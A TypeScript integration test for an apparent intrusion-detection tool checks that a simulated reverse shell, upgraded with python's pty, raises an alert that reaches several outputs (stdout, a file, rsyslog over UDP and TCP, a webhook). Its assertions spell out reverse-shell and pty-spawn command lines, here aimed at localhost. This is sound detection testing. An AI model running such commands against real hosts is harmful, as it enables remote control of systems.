import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import type { Alert } from '../../src/model/alert.ts';
import { openReverseShell } from '../../src/simulate/reverse-shell.ts';
import { type Auditd, noAudit, startAuditd } from '../support/auditd.ts';
import { startWebhookReceiver } from '../support/receivers.ts';
import { noRsyslogd, startRsyslogd } from '../support/rsyslogd.ts';
import { type Sigmond, startSigmond } from '../support/sigmond.ts';
import { waitUntil } from '../support/wait.ts';

/** The star rule of config/rules. */
const starRule = '9933a90d-07ec-4698-89b2-ecedf68515f5';
const rules = new URL('../../config/rules', import.meta.url).pathname;
const loginUid = 64_371;

const isStarAlert =
  (token: string) =>
  ({ rule, event }: Alert): boolean =>
    rule.id === starRule && String(event.fields['CommandLine']).includes(token);

/** What is the same however the attack was seen. */
function assertAttack({ event: { fields, argv }, ancestry }: Alert, token: string): void {
  const program = `import pty; pty.spawn("/bin/bash") # ${token}`;
  assert.match(String(fields['Image']), /\/python3\.\d+$/);
  assert.match(String(fields['CommandLine']), /^\S*python3 -c import pty; pty\.spawn/);
  assert.deepEqual(argv?.slice(1), ['-c', program]);
  assert.equal(fields['User'], 'root');
  assert.match(String(fields['Tty']), /^pts\d+$/);
  assert.equal(fields['ParentImage'], '/usr/bin/bash');
  assert.equal(fields['ParentCommandLine'], '/bin/bash --norc -i');
  assert.equal(fields['ParentUser'], 'root');
  const [shell, terminal, attacker] = ancestry;
  assert.equal(shell?.commandLine, '/bin/bash --norc -i');
  assert.match(
    terminal?.commandLine ?? '',
    /^\/bin\/bash --norc -c \/bin\/bash --norc -i >& \/dev\/tcp\/127\.0\.0\.1\/\d+ 0>&1/,
  );
  assert.equal(attacker?.pid, process.pid);
  assert.match(attacker?.image ?? '', /node/);
}

async function attack(sigmond: Sigmond, token: string, timeoutMs: number): Promise<Alert> {
  const shell = await openReverseShell(token);
  try {
    assert.equal(shell.realTerminal, true, 'node-pty is there, so the terminal is real');
    return await sigmond.waitForAlert(isStarAlert(token), timeoutMs);
  } finally {
    await shell.close();
  }
}

describe(`a reverse shell upgraded with python's pty, auditd running${noAudit ? ` (${noAudit})` : ''}`, {
  skip: noAudit !== false || noRsyslogd !== false,
}, () => {
  test('the alert arrives on standard output, in a file, in rsyslog over UDP and TCP, and at a webhook', async () => {
    const auditd: Auditd = await startAuditd(loginUid);
    const rsyslogd = await startRsyslogd();
    const webhook = await startWebhookReceiver();
    const sigmond = await startSigmond(
      (folder) => `
state_dir: ${folder}/state
rules: {paths: [${rules}]}
sources:
  audit_log: {path: ${auditd.logPath}}
sinks:
  - {name: screen, type: stdout}
  - {name: local, type: file, path: ${folder}/alerts.jsonl}
  - {name: udp, type: syslog, address: "udp://127.0.0.1:${rsyslogd.udpPort}"}
  - {name: tcp, type: syslog, address: "tcp://127.0.0.1:${rsyslogd.tcpPort}"}
  - {name: soc, type: webhook, url: "${webhook.url}"}
`,
    );
    try {
      const token = `live${process.pid}`;
      const alert = await attack(sigmond, token, 15_000);
      assertAttack(alert, token);
      assert.equal(alert.event.fields['EventSource'], 'audit');
      assert.equal(alert.event.fields['Auid'], String(loginUid));
      assert.match(alert.event.id, /^\d+\.\d{3}:\d+$/);

      const others = [
        async () =>
          (await readFile(join(sigmond.folder, 'alerts.jsonl'), 'utf8'))
            .split('\n')
            .filter(Boolean)
            .map((line) => JSON.parse(line)),
        async () => webhook.taken(),
        async () =>
          (await rsyslogd.messages())
            .filter(({ input }) => input === 'imudp')
            .map(({ text }) => JSON.parse(text.replace(/^\ufeff/, ''))),
        async () =>
          (await rsyslogd.messages())
            .filter(({ input }) => input === 'imtcp')
            .map(({ text }) => JSON.parse(text.replace(/^\ufeff/, ''))),
      ];
      for (const read of others) {
        const same = async (): Promise<Alert | undefined> =>
          ((await read()) as Alert[]).find(({ id }) => id === alert.id);
        await waitUntil(async () => (await same()) !== undefined, `the alert at ${read}`);
        const arrived = await same();
        assert.ok(arrived);
        assertAttack(arrived, token);
      }
      assert.equal(await sigmond.stop(), 0);
    } finally {
      sigmond.process.kill('SIGKILL');
      await webhook.close();
      await rsyslogd.close();
      await auditd.stop();
    }
  });
});

describe("a reverse shell upgraded with python's pty, no auditd", () => {
  test('a scan of /proc sees it, and says so', async () => {
    const sigmond = await startSigmond(
      (folder) => `
state_dir: ${folder}/state
rules: {paths: [${rules}]}
sources:
  audit_log: {path: ${folder}/no-auditd/audit.log}
  proc_scan: {interval_ms: 500}
`,
    );
    try {
      const token = `scan${process.pid}`;
      const alert = await attack(sigmond, token, 15_000);
      assertAttack(alert, token);
      assert.equal(alert.event.fields['EventSource'], 'proc');
      assert.equal(await sigmond.stop(), 0);
    } finally {
      sigmond.process.kill('SIGKILL');
    }
  });
});
